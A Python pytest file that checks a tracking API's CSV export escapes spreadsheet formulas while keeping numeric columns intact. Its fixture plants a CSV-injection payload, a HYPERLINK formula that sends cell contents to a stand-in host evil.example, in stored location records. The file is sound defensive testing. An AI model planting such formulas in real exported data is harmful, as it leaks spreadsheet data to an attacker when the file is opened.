"""The API against a hostile browser or spreadsheet, in-process (no broker, no socket)."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
from collections.abc import Iterator

import httpx
import pytest
from fastapi import FastAPI

from api.app import create_app
from api.config import ApiSettings
from api.context import ApiContext
from geofence.config import GeofenceSettings
from tracks.store import Store

T0 = dt.datetime(2025, 11, 20, 8, 0, tzinfo=dt.UTC)
EVIL_GRID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
WINDOW = {"start": "2025-11-20T07:00:00+00:00", "end": "2025-11-20T09:00:00+00:00"}


def request(app: FastAPI, path: str, host: str = "127.0.0.1:8080", **params: str) -> httpx.Response:
    """GET ``path`` as a browser that resolved ``host`` to us would send it."""

    async def get() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url=f"http://{host}") as client:
            return await client.get(path, params=params)

    return asyncio.run(get())


@pytest.fixture
def app(tmp_path) -> Iterator[FastAPI]:
    """No tokens (the loopback mode); device ``-d1`` has fixes in a grid named as a formula."""
    with Store(tmp_path / "gp.db") as store:
        for i in range(3):
            store.cursor().execute(
                "INSERT INTO pings (device_id, ts, lat, lon, acc, flags, grid_id, received_at) "
                "VALUES (?, ?, ?, ?, ?, 0, ?, ?)",
                ["-d1", T0 + dt.timedelta(seconds=10 * i), -33.5, -70.6, -1.0, EVIL_GRID, T0],
            )
        context = ApiContext(
            store=store,
            grid_set=None,
            live=None,
            geofence=GeofenceSettings(),
            settings=ApiSettings(),
            tokens=None,
        )
        yield create_app(context)


def test_track_csv_neutralises_formulas_and_keeps_numbers(app):
    response = request(app, "/api/v1/devices/-d1/track", format="csv", **WINDOW)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 3
    for row in rows:
        assert row["grid_id"] == "'" + EVIL_GRID
        assert row["device_id"] == "'-d1"
        assert (row["lat"], row["lon"], row["acc"]) == ("-33.5", "-70.6", "-1.0")  # numbers
